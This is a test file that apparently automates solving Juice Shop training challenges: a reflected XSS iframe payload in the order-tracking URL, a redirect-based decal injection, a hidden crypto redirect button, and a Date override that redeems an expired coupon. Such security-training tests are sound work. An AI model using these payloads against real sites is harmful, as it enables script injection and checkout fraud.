import { describe, expect, it } from 'vitest'
import { JIM } from '../support/accounts.js'
import { openShop, openShopAs } from '../support/browser.js'
import { useShopAndBrowser } from '../support/fixtures.js'
import { isSolved, waitForSolved } from '../support/shop.js'

const XSS = '<iframe src="javascript:alert(`xss`)">'
const DECAL = '../../..//redirect?to=https://cataas.com/cat?x=https://github.com/juice-shop/juice-shop'

describe('client-side holes of the checkout area', () => {
  const fixture = useShopAndBrowser()

  it('tracking an ordinary order id solves nothing', async () => {
    const { context, page } = await openShop(fixture.browser, fixture.shop, {
      path: '/track-result?id=5267-f9cd5882f54c75a3',
    })
    await page.getByTestId('tracked-order-id').waitFor()
    expect(await isSolved(fixture.shop, 'reflectedXssChallenge')).toBe(false)
    await context.close()
  })

  it('Reflected XSS: the tracking page runs the echoed iframe', async () => {
    const { context, page } = await openShop(fixture.browser, fixture.shop, { path: '/search' })
    const alerted = new Promise<string>((resolve) =>
      page.on('dialog', (dialog) => {
        resolve(dialog.message())
        void dialog.dismiss()
      }),
    )
    await page.goto(`${fixture.shop.baseUrl}/#/track-result?id=${encodeURIComponent(XSS)}`)
    await page.getByTestId('tracked-order-id').locator('iframe').waitFor({ state: 'attached' })
    await expect(alerted).resolves.toBe('xss')
    await expect(waitForSolved(fixture.shop, 'reflectedXssChallenge')).resolves.toBe(true)
    await context.close()
  })

  it('Cross-Site Imaging: the deluxe page reports and uses the test decal', async () => {
    const { context, page, socketConnected } = await openShopAs(fixture.browser, fixture.shop, JIM)
    await socketConnected
    expect(await isSolved(fixture.shop, 'svgInjectionChallenge')).toBe(false)
    await page.goto(`${fixture.shop.baseUrl}/#/deluxe-membership?testDecal=${encodeURIComponent(DECAL)}`)
    const decal = page.getByTestId('deluxe-decal').first()
    await expect(decal.getAttribute('href')).resolves.toBe(`assets/public/images/${DECAL}`)
    await expect(waitForSolved(fixture.shop, 'svgInjectionChallenge')).resolves.toBe(true)
    await context.close()
  })

  it('Outdated Allowlist: a hidden crypto button leads through the redirect', async () => {
    const { context, page } = await openShopAs(fixture.browser, fixture.shop, JIM)
    await page.goto(`${fixture.shop.baseUrl}/#/payment/shop`)
    await page.getByText('Other payment options').click()
    const hidden = page.locator('#ether-donation')
    await expect(hidden.isVisible()).resolves.toBe(false)
    // Redirects leave the shop; stop the navigation at the shop's answer.
    await page.route('https://etherscan.io/**', (route) => route.fulfill({ status: 200, body: 'stub' }))
    await hidden.evaluate((button) => (button as HTMLButtonElement).click())
    await expect(waitForSolved(fixture.shop, 'redirectCryptoCurrencyChallenge')).resolves.toBe(true)
    await context.close()
  })

  it('Expired Coupon: a campaign code redeemed with the browser clock turned back', async () => {
    // Jim's seeded basket holds two Raspberry Juices; he has a card and addresses.
    const { context, page } = await openShopAs(fixture.browser, fixture.shop, JIM)
    await page.goto(`${fixture.shop.baseUrl}/#/basket`)
    await page.locator('#checkoutButton').click()
    await page.getByRole('radio').first().check()
    await page.getByRole('button', { name: 'Continue' }).click()
    await page.getByRole('radio', { name: 'Fast Delivery' }).check()
    await page.getByRole('button', { name: 'Continue' }).click()
    await page.waitForURL(/#\/payment\/shop/)
    await page.getByText('Add a coupon').click()
    await page.locator('#coupon').fill('WMNSDY2019')
    await page.locator('#applyCouponButton').click()
    await page.getByTestId('coupon-error').waitFor()
    expect(await isSolved(fixture.shop, 'manipulateClockChallenge')).toBe(false)
    // The canonical trick: make `new Date()` answer 8 March 2019 in the console.
    await page.evaluate(() => {
      const RealDate = Date
      class CampaignDay extends RealDate {
        constructor(...args: []) {
          if (args.length === 0) super(2019, 2, 8, 12)
          else super(...(args as unknown as [number]))
        }
      }
      window.Date = CampaignDay as DateConstructor
    })
    await page.locator('#coupon').fill('WMNSDY2019')
    await page.locator('#applyCouponButton').click()
    await page.getByTestId('coupon-confirmation').filter({ hasText: '75%' }).waitFor()
    await page
      .getByRole('radio', { name: /Select card ending with/ })
      .first()
      .check()
    await page.locator('#continuePaymentButton').click()
    await page.locator('#checkoutButton').click()
    await page.waitForURL(/#\/order-completion\//)
    await expect(waitForSolved(fixture.shop, 'manipulateClockChallenge')).resolves.toBe(true)
    await context.close()
  })
})
